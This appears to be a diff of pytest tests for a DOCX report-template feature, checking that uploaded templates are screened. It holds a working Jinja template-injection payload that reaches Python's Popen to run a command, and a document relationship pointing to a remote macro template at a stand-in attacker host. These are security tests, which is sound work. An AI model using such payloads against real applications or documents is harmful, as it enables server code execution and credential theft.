@@ -3,10 +3,12 @@ name, a file that is no DOCX refused), and filled with the report's one content 
 
 from __future__ import annotations
 
+import contextlib
 import io
 
 import docx
 import pytest
+from docx.opc.constants import RELATIONSHIP_TYPE as RT
 
 from tests.exports.report_world import docx_bytes, report_world
 from tests.factories import make_user
@@ -107,3 +109,40 @@ def test_filling_escapes_what_people_typed(ctx):
     text = "\n".join(paragraph.text for paragraph in docx.Document(io.BytesIO(filled)).paragraphs)
     # the sanitized page's text, kept as text: not run again as a placeholder, not read as XML
     assert text.count("&  {{ community }}") == 3
+
+
+SSTI = ("{% for c in community.__class__.__mro__[1].__subclasses__() %}{% if c.__name__ == 'Popen' %}"
+        "{{ c(['touch', 'PROOF'], stdout=-1).communicate()[0] }}{% endif %}{% endfor %}")
+
+
+def test_a_template_reaching_for_python_internals_is_a_problem_and_is_never_run(ctx, tmp_path):
+    """A funder's template is a file, not code: a placeholder that walks to Python's classes is reported on upload,
+    and even filled directly it runs in Jinja's sandbox, which refuses it (nothing is started on the server)."""
+    proof = tmp_path / "ran"
+    payload = SSTI.replace("PROOF", str(proof))
+    data = docx_bytes("{{ community }}", payload)
+    _placeholders, problems = templates.check_template(data)
+    assert {problem["code"] for problem in problems} == {"unsafe"}
+    assert "__class__" in problems[0]["name"] and "_" in templates.problem_text(problems[0])
+    assert templates.check_template(docx_bytes("{{ community|attr('__class__') }}"))[1][0]["code"] == "unsafe"
+    world = report_world()
+    with contextlib.suppress(ValidationError):  # refused by the sandbox, or the internals left undefined: nothing ran
+        templates.fill_bytes(data, report_content(world.enrollment))
+    assert not proof.exists()
+
+
+ATTACHED_TEMPLATE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
+
+
+def test_a_template_pointing_outside_itself_is_a_problem_but_a_hyperlink_is_not(ctx):
+    """An attached template on another server (Word fetches it on opening: remote macros, a leaked Windows login)
+    keeps the template from being offered; an ordinary hyperlink in its text does not."""
+    document = docx.Document()
+    document.add_paragraph("{{ community }}")
+    document.part._settings_part.relate_to("file://evil.example/share/macros.dotm", ATTACHED_TEMPLATE, is_external=True)
+    document.part.relate_to("https://www.edu.tw/", RT.HYPERLINK, is_external=True)
+    out = io.BytesIO()
+    document.save(out)
+    _placeholders, problems = templates.check_template(out.getvalue())
+    assert problems == [{"code": "external", "name": "file://evil.example/share/macros.dotm"}]
+    assert "evil.example" in templates.problem_text(problems[0])
